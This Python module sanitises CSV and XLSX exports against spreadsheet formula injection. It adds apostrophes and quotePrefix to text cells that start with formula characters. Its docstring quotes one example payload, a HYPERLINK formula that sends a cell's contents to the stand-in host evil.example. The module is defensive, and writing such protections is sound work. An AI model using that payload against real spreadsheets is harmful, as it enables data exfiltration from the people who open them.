"""Spreadsheet-safe cells: text from users is written as text, never as a formula.

Names, ids and notes come from agency files (and soon from browsers). A destination
named ``=HYPERLINK("http://evil.example/?d="&A1,"klik")`` must not become a live formula
when an officer opens an export in Excel or LibreOffice (CSV / formula injection, see the
OWASP page "CSV Injection"). Every CSV and XLSX writer of the project goes through this
module:

- CSV (:func:`csv_frame`, :func:`csv_text`, :func:`write_csv`): a text cell that starts with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return gets a leading ``'``, as OWASP recommends;
- XLSX (:func:`write_xlsx`, the one formatted workbook of the project, built on
  :func:`excel_writer` and :func:`text_cells`): every cell holding a Python ``str`` is
  stored as a string cell (openpyxl would store text starting with ``=`` as a formula), and
  text starting with one of those characters also carries ``quotePrefix``, so the
  spreadsheet keeps it as text even when the cell is edited.

Numbers are never touched: a numeric ``-5`` stays the number -5 in both formats.
"""

from __future__ import annotations

import os
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final, Literal

import numpy as np
import pandas as pd

# First characters that make a spreadsheet read a cell as a formula (OWASP list).
FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")


def risky(value: object) -> bool:
    """True for text a spreadsheet could evaluate as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> Any:
    """One CSV cell made safe: risky text gets a leading ``'``; anything else unchanged."""
    return "'" + value if risky(value) else value


def csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and headers) are safe in a CSV file.

    Only object and string columns are looked at, and only their ``str`` values are
    changed, so numbers stay numbers.
    """
    out = pd.DataFrame(df).copy()
    for pos in range(out.shape[1]):
        s = out.iloc[:, pos]
        if not (pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)):
            continue
        values = np.asarray(s.astype(object))
        hit = np.fromiter((risky(v) for v in values), dtype=bool, count=len(values))
        if hit.any():
            values = values.copy()
            values[hit] = ["'" + v for v in values[hit]]
            out.isetitem(pos, values)
    out.columns = pd.Index([csv_cell(c) for c in out.columns])
    return out


def csv_text(df: pd.DataFrame, *, bom: bool = False) -> str:
    """``df`` as CSV text (no index) with safe cells; ``bom`` starts it with U+FEFF so that
    Excel opens UTF-8 correctly."""
    return ("\ufeff" if bom else "") + csv_frame(df).to_csv(index=False)


def write_csv(df: pd.DataFrame, path: str | os.PathLike[str]) -> None:
    """Write ``df`` as a UTF-8 CSV file (no index) with safe cells."""
    csv_frame(df).to_csv(Path(path), index=False, encoding="utf-8")


def text_cells(book: Any) -> None:
    """Store every text cell of an openpyxl workbook as a string, never as a formula.

    The workbook is written by this project only, so no cell is meant to be a formula.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str):
                    if cell.data_type != "s":
                        cell.data_type = "s"
                    if value.startswith(FORMULA_START):
                        cell.quotePrefix = True


@contextmanager
def excel_writer(path: str | os.PathLike[str], *,
                 mode: Literal["w", "a"] = "w") -> Iterator[pd.ExcelWriter]:
    """``pd.ExcelWriter`` (openpyxl) whose cells are made safe by :func:`text_cells` on exit."""
    with pd.ExcelWriter(path, engine="openpyxl", mode=mode) as xw:
        yield xw
        text_cells(xw.book)


def write_xlsx(path: str | os.PathLike[str], table: pd.DataFrame, assumptions: pd.DataFrame,
               *, sheet: str, headers: Sequence[str] | None = None,
               number_formats: Mapping[str, str] | None = None,
               widths: Mapping[str, float] | None = None,
               assumption_widths: Sequence[float] = (22, 34, 30, 100)) -> None:
    """A workbook for people: the one XLSX formatter of the project.

    The table on ``sheet`` and the assumptions on an "Asumsi" sheet, both with bold,
    wrapped, frozen headers; the table with an autofilter, frozen first two columns, yes/no
    cells as ``Ya``/``Tidak``, number formats per column and text always stored as text
    (:func:`excel_writer`).

    Parameters
    ----------
    path
        The ``.xlsx`` file to write (callers write a temporary file, see
        :func:`geo.io.workspace.atomic_write`).
    table, assumptions
        The rows; ``assumptions`` is written as it is.
    sheet
        Name of the table's sheet.
    headers
        One header per column of ``table`` (Indonesian); default the column names.
    number_formats
        Excel number format per column name (``"0.0"``, ``'"Rp" #,##0'`` ...).
    widths
        Width per column name; other columns get a width from their header's length.
    assumption_widths
        Widths of the "Asumsi" sheet's columns.
    """
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    data = table.copy()
    for col in data.columns:
        if data[col].dtype == bool:
            data[col] = np.where(data[col], "Ya", "Tidak")
    header_row = [str(c) for c in data.columns] if headers is None else list(headers)
    if len(header_row) != len(data.columns):
        raise ValueError(f"{len(header_row)} headers for {len(data.columns)} columns")
    formats = number_formats or {}
    wide = widths or {}
    bold = Font(bold=True)
    with excel_writer(path) as xw:
        data.to_excel(xw, sheet_name=sheet, index=False, header=header_row)
        assumptions.to_excel(xw, sheet_name="Asumsi", index=False)
        ws = xw.sheets[sheet]
        ws.freeze_panes = "C2" if len(data.columns) > 2 else "A2"
        for cell in ws[1]:
            cell.font = bold
            cell.alignment = Alignment(wrap_text=True, vertical="top")
        for k, col in enumerate(data.columns, start=1):
            letter = get_column_letter(k)
            ws.column_dimensions[letter].width = wide.get(
                str(col), max(11, min(30, len(header_row[k - 1]) // 2 + 6)))
            fmt = formats.get(str(col))
            if fmt:
                for cell in ws[letter][1:]:
                    cell.number_format = fmt
        ws.auto_filter.ref = ws.dimensions
        sheet_a = xw.sheets["Asumsi"]
        for k, width in enumerate(assumption_widths, start=1):
            sheet_a.column_dimensions[get_column_letter(k)].width = width
        for cell in sheet_a[1]:
            cell.font = bold
        sheet_a.freeze_panes = "A2"
